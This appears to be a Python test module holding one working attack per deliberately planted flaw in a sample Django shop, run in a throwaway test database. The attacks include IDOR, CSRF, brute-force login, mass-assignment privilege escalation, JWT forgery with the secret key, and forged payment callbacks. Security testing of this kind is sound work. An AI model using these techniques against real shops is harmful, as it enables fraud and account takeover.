"""Attacks on the shop, one for each hole in shop.toml: True while the attack succeeds.

Every function takes `client_factory`: what makes a DRF APIClient, such as the class itself. They run in a process
with the project's settings, in a database with its tables that may be thrown away; each makes what it needs.
All of them at once, in a test database of their own:

    cd tests/adopt/shop
    PYTHONPATH=.:.. DJANGO_SETTINGS_MODULE=config.settings python -m attacks.shop
"""

from __future__ import annotations

import contextlib
import sys
import uuid
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal
from typing import Any
from unittest import mock

from django.apps import apps
from django.conf import settings
from django.core.cache import cache, caches
from django.core.cache.backends import locmem
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

ClientFactory = Callable[..., APIClient]

PASSWORD = "attack at dawn 1914"


# --- what the attacks stand on ---


def _user(**more: Any) -> Any:
    cache.clear()  # the throttles of an attack before
    model = apps.get_model(settings.AUTH_USER_MODEL)
    return model.objects.create_user(f"{uuid.uuid4().hex}@example.com", PASSWORD, **more)


def _signed_in(client_factory: ClientFactory, user: Any) -> APIClient:
    client = client_factory()
    answer = client.post(reverse("login"), {"email": user.email, "password": PASSWORD}, format="json")
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {answer.json()['access']}")
    return client


def _product(**more: Any) -> Any:
    category, _ = apps.get_model("catalog.Category").objects.get_or_create(name="Loot", slug="loot")
    values = {"sku": uuid.uuid4().hex, "name": "Loot", "category": category, "price": 10, "stock": 5}
    return apps.get_model("catalog.Product").objects.create(**{**values, **more})


def _order(customer: Any, **more: Any) -> Any:
    values = {"customer": customer, "total": Decimal("10.00"), "ship_to": "Elm Street 13"}
    return apps.get_model("orders.Order").objects.create(**{**values, **more})


# --- the attacks ---


def attack_anyone_writes(client_factory: ClientFactory) -> bool:
    """Tell the shop, as its payment provider would, that an order is paid."""
    order = _order(_user())
    data = {"order": order.number, "reference": uuid.uuid4().hex, "amount": "10.00", "state": "captured"}
    client_factory(enforce_csrf_checks=True).post(reverse("payment-callback"), data, format="multipart")
    order.refresh_from_db()
    return order.status == "paid"


def attack_anyone_writes_stock(client_factory: ClientFactory) -> bool:
    """Sell a competitor out without an account."""
    product = _product()
    client_factory().post(reverse("update-stock", args=[product.sku]), {"stock": 0}, format="json")
    product.refresh_from_db()
    return product.stock == 0


def attack_object_unchecked(client_factory: ClientFactory) -> bool:
    """Read and change the address of another customer by its number."""
    victim = _user()
    address = apps.get_model("accounts.Address").objects.create(
        user=victim, name="V", street="Elm Street 13", postcode="1", city="Springwood"
    )
    client = _signed_in(client_factory, _user())
    url = reverse("address-detail", args=[address.pk])
    read = client.get(url)
    client.patch(url, {"street": "Thief Lane 1"}, format="json")
    address.refresh_from_db()
    return read.status_code == 200 and address.street == "Thief Lane 1"


def attack_object_by_hand(client_factory: ClientFactory) -> bool:
    """Read name and address from the receipt of another customer: the numbers count up."""
    victim = _user(full_name="Vera Victim")
    order = _order(victim)
    answer = _signed_in(client_factory, _user()).get(reverse("receipt", args=[order.number]))
    return answer.status_code == 200 and victim.email in answer.content.decode()


def attack_detached_permission(client_factory: ClientFactory) -> bool:
    """Cancel the order of another customer: the view names IsOwner, and never asks it."""
    order = _order(_user())
    _signed_in(client_factory, _user()).post(reverse("order-cancel", args=[order.pk]))
    order.refresh_from_db()
    return order.status == "cancelled"


def attack_list_leaks(client_factory: ClientFactory) -> bool:
    """Find in the list what the detail route refuses."""
    victim = _user()
    parcel = apps.get_model("orders.Return").objects.create(
        order=_order(victim), customer=victim, reason="It is too small for me."
    )
    client = _signed_in(client_factory, _user())
    refused = client.get(reverse("return-detail", args=[parcel.pk])).status_code in (403, 404)
    return refused and parcel.reason in client.get(reverse("return-list")).content.decode()


def attack_csrf_exempt(client_factory: ClientFactory) -> bool:
    """Subscribe a visitor of another site, whose form has no CSRF token, to the newsletter."""
    victim = _user()
    client = client_factory(enforce_csrf_checks=True)
    client.force_login(victim)
    client.post(
        reverse("newsletter"), {"subscribe": "1"}, format="multipart", HTTP_ORIGIN="https://evil.example"
    )
    victim.refresh_from_db()
    return bool(victim.newsletter)


def attack_login_unlimited(client_factory: ClientFactory) -> bool:
    """Guess forty passwords in a row, then the right one."""
    victim = _user()
    client = client_factory()
    guesses = [f"guess {n}" for n in range(40)] + [PASSWORD]
    answers = [
        client.post(
            reverse("mobile-login"), {"email": victim.email, "password": guess}, format="json"
        ).status_code
        for guess in guesses
    ]
    return answers == [401] * 40 + [200]


def attack_writable_privilege(client_factory: ClientFactory) -> bool:
    """Make oneself a superuser by changing one's profile."""
    attacker = _user()
    client = _signed_in(client_factory, attacker)
    client.patch(reverse("profile"), {"is_staff": True, "is_superuser": True}, format="json")
    attacker.refresh_from_db()
    return bool(attacker.is_staff and attacker.is_superuser)


def attack_order_by_anything(client_factory: ClientFactory) -> bool:
    """Learn the order of the purchase prices, which no answer shows."""
    word = uuid.uuid4().hex
    # By name, price and number they stand in another order than by what they cost the shop.
    costs = {_product(name=f"{word} {n}", purchase_price=cost).pk: cost for n, cost in enumerate([5, 9, 2])}
    client = client_factory()

    def by(field: str) -> list[int]:
        answer = client.get(reverse("product-list"), {"search": word, "ordering": field})
        return [row["id"] for row in answer.json()["results"]] if answer.status_code == 200 else []

    truth = sorted(costs, key=lambda pk: costs[pk])
    return by("purchase_price") == truth and by("-purchase_price") == truth[::-1]


def attack_unbounded_list(client_factory: ClientFactory) -> bool:
    """Make the shop answer with all the reviews that it has."""
    product, model = _product(), apps.get_model(settings.AUTH_USER_MODEL)
    authors = model.objects.bulk_create(model(email=f"{uuid.uuid4().hex}@example.com") for _ in range(500))
    review = apps.get_model("catalog.Review")
    review.objects.bulk_create(review(product=product, author=author, rating=5) for author in authors)
    cache.clear()
    answer = client_factory().get(reverse("review-list"), {"product": product.pk})
    return answer.status_code == 200 and len(answer.json()) == 500


def attack_credential_in_query(client_factory: ClientFactory) -> bool:
    """Use a token found in the address of a request, as an access log keeps it."""
    victim = _user()
    order = _order(victim)
    login = client_factory().post(
        reverse("login"), {"email": victim.email, "password": PASSWORD}, format="json"
    )
    first = client_factory().get(reverse("invoice", args=[order.number]), {"token": login.json()["access"]})
    logged = f"{first.request['PATH_INFO']}?{first.request['QUERY_STRING']}"
    again = client_factory().get(logged)
    return again.status_code == 200 and "Elm Street 13" in again.content.decode()


def attack_shared_key(client_factory: ClientFactory) -> bool:
    """Whoever learns SECRET_KEY, which signs cookies and reset links too, is any user he likes."""
    import jwt

    victim = _user()
    now = timezone.now()
    claims = {
        "token_type": "access",
        "user_id": str(victim.pk),
        "jti": uuid.uuid4().hex,
        "iat": now,
        "exp": now + timedelta(minutes=5),
    }
    client = client_factory()
    forged = jwt.encode(claims, settings.SECRET_KEY, algorithm="HS256")
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {forged}")
    answer = client.get(reverse("profile"))
    return answer.status_code == 200 and answer.json()["email"] == victim.email


def attack_throttle_per_process(client_factory: ClientFactory) -> bool:
    """Guess on with another worker of the server when the first one has had enough."""
    victim = _user()
    client = client_factory()

    def guess() -> int:
        body = {"email": victim.email, "password": "no"}
        return int(client.post(reverse("login"), body, format="json").status_code)

    first = [guess() for _ in range(6)]
    # Another process has what this one has, but for the memory of the cache.
    with (
        mock.patch.dict(locmem._caches, clear=True),
        mock.patch.dict(locmem._expire_info, clear=True),
        mock.patch.dict(locmem._locks, clear=True),
    ):
        del caches["default"]
        try:
            second = guess()
        finally:
            with contextlib.suppress(AttributeError):  # nothing has used it
                del caches["default"]
    return first == [401] * 5 + [429] and second == 401


def gain_a_customer_reads_who_the_others_are(client_factory: ClientFactory) -> bool:
    """The list of customers is for the staff; so it must be after a move as well."""
    other = _user()
    answer = _signed_in(client_factory, _user()).get(reverse("customer-list"))
    return other.email in answer.content.decode()


ATTACKS = {name: found for name, found in list(globals().items()) if name.startswith("attack_")}


def main() -> int:
    """Run all of them in a database of their own, and say which succeed."""
    import django
    from django.test.runner import DiscoverRunner
    from django.test.utils import override_settings

    django.setup()
    runner = DiscoverRunner(verbosity=0)
    runner.setup_test_environment()
    databases = runner.setup_databases()
    try:
        with override_settings(PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"]):
            for name, attack in ATTACKS.items():
                print(f"{name:35} {'succeeds' if attack(APIClient) else 'fails'}")
    finally:
        runner.teardown_databases(databases)
        runner.teardown_test_environment()
    return 0


if __name__ == "__main__":
    sys.exit(main())
